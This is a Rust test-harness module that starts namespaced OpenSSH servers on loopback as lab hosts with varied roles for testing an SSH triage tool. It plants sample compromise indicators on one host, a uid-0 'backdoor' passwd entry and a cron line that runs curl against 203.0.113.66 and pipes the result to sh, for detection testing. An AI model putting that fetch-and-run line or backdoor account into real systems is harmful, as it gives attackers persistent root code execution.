//! A lab of real OpenSSH servers on loopback ports: the "hosts" of the SSH end-to-end tests and
//! of `scripts/bench-ssh.sh` (through the `diffy-ssh-lab` binary).
//!
//! Each host is a mount and PID namespace of its own (`unshare --mount --pid`) in which `/etc` is
//! an overlay of the machine's with the host's own `passwd`, `crontab` and `ssh/` (its
//! `sshd_config`, host key and authorized keys), `/root` and `/run` are empty, and `ps` sees only
//! the host's processes. Its port is a listener in this process that hands every connection to
//! `sshd -i` started inside the namespace (`nsenter`), as inetd would. So the lab's hosts differ
//! exactly where a test makes them differ, and otherwise look alike to every command of diffy's
//! triage set: they share the machine's binaries, and `ss` sees the same listening sockets from
//! all of them (the listeners belong to this process, outside their PID namespaces).
//!
//! Roles: a healthy host; one with an extra login account and a malicious cron line; one whose
//! port has nothing listening; one whose key differs from `known_hosts`; one absent from
//! `known_hosts`; one that refuses our key; one that accepts TCP and never answers; one where
//! [`HANG_COMMAND`] sleeps far past any test's deadline.
//!
//! Everything is torn down on drop, a panicking test included: the listeners stop, and killing a
//! namespace's first process kills every process in it. Should the test process die first, the
//! kernel kills the namespaces too (`setpriv --pdeathsig`, `unshare --kill-child`).

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};

use rustix::process::{Pid, Signal, kill_process_group};
use tempfile::TempDir;

/// A payload command that sleeps for ten minutes on a host whose role is [`Role::Hangs`] and
/// prints `awake` at once everywhere else.
pub const HANG_COMMAND: &str = "if [ -e /etc/diffy-lab-hang ]; then sleep 600; fi; echo awake";

/// The extra account of a [`Role::Tampered`] host.
pub const BACKDOOR_ACCOUNT: &str = "backdoor:x:0:0:System Maintenance:/root:/bin/bash";

/// The extra `/etc/crontab` line of a [`Role::Tampered`] host (text only: no cron runs).
pub const MALICIOUS_CRON: &str =
    "*/5 * * * * root curl -fsSL http://203.0.113.66/x.sh | sh >/dev/null 2>&1";

const SSHD: &str = "/usr/sbin/sshd";
const SFTP_SERVER: &str = "/usr/lib/openssh/sftp-server";

/// What a lab host does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// A plain host.
    Healthy,
    /// A healthy host with [`BACKDOOR_ACCOUNT`] and [`MALICIOUS_CRON`].
    Tampered,
    /// Nothing listens on its port.
    Down,
    /// `known_hosts` has another key for it.
    ChangedKey,
    /// `known_hosts` has no key for it.
    UnknownKey,
    /// It does not accept the lab's client key.
    RefusesLogin,
    /// It accepts connections and never says a word.
    Tarpit,
    /// [`HANG_COMMAND`] sleeps on it.
    Hangs,
}

impl Role {
    fn runs_sshd(self) -> bool {
        !matches!(self, Role::Down | Role::Tarpit)
    }
}

/// One lab host to start.
#[derive(Debug, Clone)]
pub struct HostSpec {
    pub name: String,
    pub role: Role,
    /// Whether its sshd accepts `DIFFY_INCIDENT` (`AcceptEnv`).
    pub accepts_incident: bool,
}

impl HostSpec {
    pub fn new(name: impl Into<String>, role: Role) -> Self {
        HostSpec {
            name: name.into(),
            role,
            accepts_incident: true,
        }
    }

    /// The same host, with an sshd that does not accept `DIFFY_INCIDENT`.
    pub fn refusing_incident(mut self) -> Self {
        self.accepts_incident = false;
        self
    }
}

/// A running host.
struct LabHost {
    spec: HostSpec,
    port: u16,
    /// The namespace's holder (`unshare`, whose child is the namespace's first process).
    holder: Option<Child>,
    listener: Option<Listener>,
}

/// A port's listener and the thread serving it.
struct Listener {
    stop: Arc<AtomicBool>,
    thread: JoinHandle<()>,
}

/// The lab: its hosts, and the files a client needs to reach them.
pub struct Lab {
    dir: TempDir,
    hosts: Vec<LabHost>,
}

impl Lab {
    /// Start `hosts`, or say why this machine cannot run the lab (not root, no sshd, no
    /// namespaces or overlays), for the caller to skip with that reason.
    pub fn start(hosts: &[HostSpec]) -> Result<Lab, String> {
        preflight()?;
        let dir = tempfile::Builder::new()
            .prefix("diffy-ssh-lab-")
            .tempdir()
            .map_err(|e| format!("cannot create the lab directory: {e}"))?;
        // sshd refuses files in directories others may write to.
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))
            .map_err(|e| format!("cannot set the lab directory's mode: {e}"))?;
        let mut lab = Lab {
            dir,
            hosts: Vec::new(),
        };
        keygen(&lab.client_key(), "diffy lab client")?;
        let mut known_hosts = String::new();
        for spec in hosts {
            let host = lab.start_host(spec, &mut known_hosts)?;
            lab.hosts.push(host);
        }
        fs::write(lab.known_hosts(), known_hosts).map_err(|e| e.to_string())?;
        fs::write(lab.ssh_config(), lab.client_config()).map_err(|e| e.to_string())?;
        fs::write(lab.inventory(), lab.ansible_inventory()).map_err(|e| e.to_string())?;
        Ok(lab)
    }

    /// The lab's directory.
    pub fn dir(&self) -> &Path {
        self.dir.path()
    }

    /// The client configuration for `ssh -F`: the lab's key and `known_hosts`, user root.
    pub fn ssh_config(&self) -> PathBuf {
        self.dir().join("ssh_config")
    }

    /// The `known_hosts` file the client configuration uses.
    pub fn known_hosts(&self) -> PathBuf {
        self.dir().join("known_hosts")
    }

    /// An Ansible INI inventory of every host (group `lab`), usable by diffy and by Ansible.
    pub fn inventory(&self) -> PathBuf {
        self.dir().join("hosts.ini")
    }

    fn client_key(&self) -> PathBuf {
        self.dir().join("client_ed25519")
    }

    /// The port of host `name`.
    pub fn port(&self, name: &str) -> u16 {
        self.hosts
            .iter()
            .find(|h| h.spec.name == name)
            .unwrap_or_else(|| panic!("no lab host {name}"))
            .port
    }

    /// The names of the hosts, in start order.
    pub fn names(&self) -> Vec<String> {
        self.hosts.iter().map(|h| h.spec.name.clone()).collect()
    }

    fn client_config(&self) -> String {
        format!(
            "Host *\n  User root\n  IdentityFile {}\n  IdentitiesOnly yes\n  IdentityAgent none\n  \
             UserKnownHostsFile {}\n  GlobalKnownHostsFile /dev/null\n",
            self.client_key().display(),
            self.known_hosts().display()
        )
    }

    fn ansible_inventory(&self) -> String {
        let mut text = String::from("[lab]\n");
        for host in &self.hosts {
            text.push_str(&format!(
                "{} ansible_host=127.0.0.1 ansible_port={}\n",
                host.spec.name, host.port
            ));
        }
        text.push_str(&format!(
            "\n[all:vars]\nansible_user=root\nansible_ssh_common_args=\"-F {}\"\n",
            self.ssh_config().display()
        ));
        text
    }

    fn start_host(&self, spec: &HostSpec, known_hosts: &mut String) -> Result<LabHost, String> {
        let home = self.dir().join(&spec.name);
        let upper = home.join("upper");
        fs::create_dir_all(upper.join("ssh")).map_err(|e| e.to_string())?;
        fs::create_dir_all(home.join("work")).map_err(|e| e.to_string())?;
        let listener = TcpListener::bind("127.0.0.1:0").map_err(|e| e.to_string())?;
        let port = listener.local_addr().map_err(|e| e.to_string())?.port();
        let mut host = LabHost {
            spec: spec.clone(),
            port,
            holder: None,
            listener: None,
        };
        if spec.role == Role::Down {
            // The port was free a moment ago and nothing listens on it now.
            return Ok(host);
        }
        if spec.role.runs_sshd() {
            write_etc(&upper, spec, &self.client_key())?;
            let host_key = upper.join("ssh/diffy_lab_host_ed25519_key");
            keygen(&host_key, &spec.name)?;
            let listed_key = match spec.role {
                Role::ChangedKey => {
                    let other = home.join("other_host_key");
                    keygen(&other, "not the host's key")?;
                    Some(other)
                }
                Role::UnknownKey => None,
                _ => Some(host_key),
            };
            if let Some(key) = listed_key {
                let public =
                    fs::read_to_string(key.with_extension("pub")).map_err(|e| e.to_string())?;
                let mut fields = public.split_whitespace();
                let (kind, blob) = (fields.next().unwrap_or(""), fields.next().unwrap_or(""));
                known_hosts.push_str(&format!("[127.0.0.1]:{port} {kind} {blob}\n"));
            }
            host.holder = Some(start_namespace(&home)?);
        }
        let holder = host.holder.as_ref().map(Child::id);
        host.listener = Some(serve(listener, spec.role, holder, &home)?);
        Ok(host)
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for host in &mut self.hosts {
            if let Some(listener) = host.listener.take() {
                listener.stop.store(true, Ordering::SeqCst);
                // Wake the accepting thread so it sees the flag.
                let _ = TcpStream::connect(("127.0.0.1", host.port));
                let _ = listener.thread.join();
            }
            if let Some(mut holder) = host.holder.take() {
                if let Some(pid) = Pid::from_raw(holder.id() as i32) {
                    let _ = kill_process_group(pid, Signal::KILL);
                }
                let _ = holder.kill();
                let _ = holder.wait();
            }
        }
    }
}

/// Why this machine cannot run the lab, if it cannot.
fn preflight() -> Result<(), String> {
    let uid = Command::new("id")
        .arg("-u")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default();
    if uid != "0" {
        return Err("the SSH lab needs root (mount namespaces and overlays)".into());
    }
    if !Path::new(SSHD).is_file() {
        return Err(format!(
            "{SSHD} is missing (apt-get install openssh-server)"
        ));
    }
    for tool in ["ssh", "ssh-keygen", "unshare", "nsenter", "setpriv"] {
        let found = Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .stdout(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !found {
            return Err(format!("{tool} is not installed"));
        }
    }
    let namespaces = Command::new("unshare")
        .args(["--mount", "--pid", "--fork", "--mount-proc", "true"])
        .stderr(Stdio::piped())
        .output()
        .map_err(|e| format!("cannot run unshare: {e}"))?;
    if !namespaces.status.success() {
        return Err(format!(
            "mount and PID namespaces are not available here: {}",
            String::from_utf8_lossy(&namespaces.stderr).trim()
        ));
    }
    Ok(())
}

/// `ssh-keygen -t ed25519` into `path` (and `path.pub`).
fn keygen(path: &Path, comment: &str) -> Result<(), String> {
    let output = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", comment, "-f"])
        .arg(path)
        .stdin(Stdio::null())
        .output()
        .map_err(|e| format!("cannot run ssh-keygen: {e}"))?;
    if output.status.success() {
        Ok(())
    } else {
        Err(format!(
            "ssh-keygen failed: {}",
            String::from_utf8_lossy(&output.stderr).trim()
        ))
    }
}

/// The host's own files in its `/etc` overlay.
fn write_etc(upper: &Path, spec: &HostSpec, client_key: &Path) -> Result<(), String> {
    let io = |e: std::io::Error| e.to_string();
    let mut passwd = fs::read_to_string("/etc/passwd").map_err(io)?;
    let mut crontab = String::from(
        "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\
         17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
         25 6 * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily\n",
    );
    if spec.role == Role::Tampered {
        passwd.push_str(BACKDOOR_ACCOUNT);
        passwd.push('\n');
        crontab.push_str(MALICIOUS_CRON);
        crontab.push('\n');
    }
    fs::write(upper.join("passwd"), passwd).map_err(io)?;
    fs::write(upper.join("crontab"), crontab).map_err(io)?;
    if spec.role == Role::Hangs {
        fs::write(upper.join("diffy-lab-hang"), "").map_err(io)?;
    }
    let authorized = if spec.role == Role::RefusesLogin {
        String::new()
    } else {
        fs::read_to_string(client_key.with_extension("pub")).map_err(io)?
    };
    fs::write(upper.join("ssh/diffy_lab_authorized_keys"), authorized).map_err(io)?;
    let accept_env = if spec.accepts_incident {
        "AcceptEnv DIFFY_INCIDENT\n"
    } else {
        ""
    };
    // Not for diffy, which needs no file transfer: Ansible copies its modules over sftp.
    let sftp = if Path::new(SFTP_SERVER).is_file() {
        format!("Subsystem sftp {SFTP_SERVER}\n")
    } else {
        String::new()
    };
    let config = format!(
        "HostKey /etc/ssh/diffy_lab_host_ed25519_key\n\
         AuthorizedKeysFile /etc/ssh/diffy_lab_authorized_keys\n\
         PermitRootLogin prohibit-password\nPasswordAuthentication no\n\
         KbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\nPrintMotd no\n\
         PidFile none\nLogLevel VERBOSE\n{accept_env}{sftp}"
    );
    fs::write(upper.join("ssh/sshd_config"), config).map_err(io)
}

/// The script that makes a namespace a host, then holds it. It is the same for every host (the
/// host's directory comes in `$LAB_HOST`), so `ps` shows the same first process everywhere.
const HOLDER_SCRIPT: &str = r#"set -e
mount -t overlay diffy-lab -o "lowerdir=/etc,upperdir=$LAB_HOST/upper,workdir=$LAB_HOST/work" /etc
mount -t tmpfs -o mode=0755 diffy-lab /run
mkdir -m 0755 /run/sshd
mount -t tmpfs -o mode=0700 diffy-lab /root
echo ready
exec sleep infinity"#;

/// Start the namespace of the host whose directory is `home`, and wait until it is ready.
fn start_namespace(home: &Path) -> Result<Child, String> {
    let log = fs::File::create(home.join("namespace.log")).map_err(|e| e.to_string())?;
    let mut child = Command::new("setpriv")
        .args(["--pdeathsig", "KILL", "--"])
        .args(["unshare", "--mount", "--pid", "--fork", "--kill-child"])
        .args(["--mount-proc", "--", "sh", "-c", HOLDER_SCRIPT])
        .env("LAB_HOST", home)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(log)
        .process_group(0)
        .spawn()
        .map_err(|e| format!("cannot start a lab namespace: {e}"))?;
    let mut line = String::new();
    if let Some(stdout) = child.stdout.take() {
        let _ = BufReader::new(stdout).read_line(&mut line);
    }
    if line.trim() == "ready" {
        return Ok(child);
    }
    let _ = child.kill();
    let _ = child.wait();
    let why = fs::read_to_string(home.join("namespace.log")).unwrap_or_default();
    Err(format!(
        "a lab host's namespace did not start (overlayfs on /etc, tmpfs on /run and /root): {}",
        why.trim()
    ))
}

/// Serve `listener` on a thread: hand each connection to `sshd -i` in the namespace of `holder`,
/// or hold it without a word for a tarpit.
fn serve(
    listener: TcpListener,
    role: Role,
    holder: Option<u32>,
    home: &Path,
) -> Result<Listener, String> {
    let stop = Arc::new(AtomicBool::new(false));
    let stopping = Arc::clone(&stop);
    let log = home.join("sshd.log");
    let thread = thread::Builder::new()
        .name(format!("ssh-lab {}", home.display()))
        .spawn(move || {
            let mut held = Vec::new();
            for stream in listener.incoming() {
                if stopping.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = stream else { continue };
                match (role, holder) {
                    (Role::Tarpit, _) | (_, None) => held.push(stream),
                    (_, Some(holder)) => {
                        let _ = start_sshd(stream, holder, &log);
                    }
                }
            }
        })
        .map_err(|e| e.to_string())?;
    Ok(Listener { stop, thread })
}

/// `sshd -i` on `stream`, inside the namespace held by `holder`; a thread reaps it.
fn start_sshd(stream: TcpStream, holder: u32, log: &Path) -> std::io::Result<()> {
    let mut log = fs::OpenOptions::new().create(true).append(true).open(log)?;
    let _ = writeln!(log, "-- connection");
    let output = stream.try_clone()?;
    let mut child = Command::new("nsenter")
        .arg(format!("--mount=/proc/{holder}/ns/mnt"))
        .arg(format!("--pid=/proc/{holder}/ns/pid_for_children"))
        .args(["--", SSHD, "-i", "-e"])
        .stdin(OwnedFd::from(stream))
        .stdout(OwnedFd::from(output))
        .stderr(log)
        .spawn()?;
    thread::spawn(move || child.wait());
    Ok(())
}
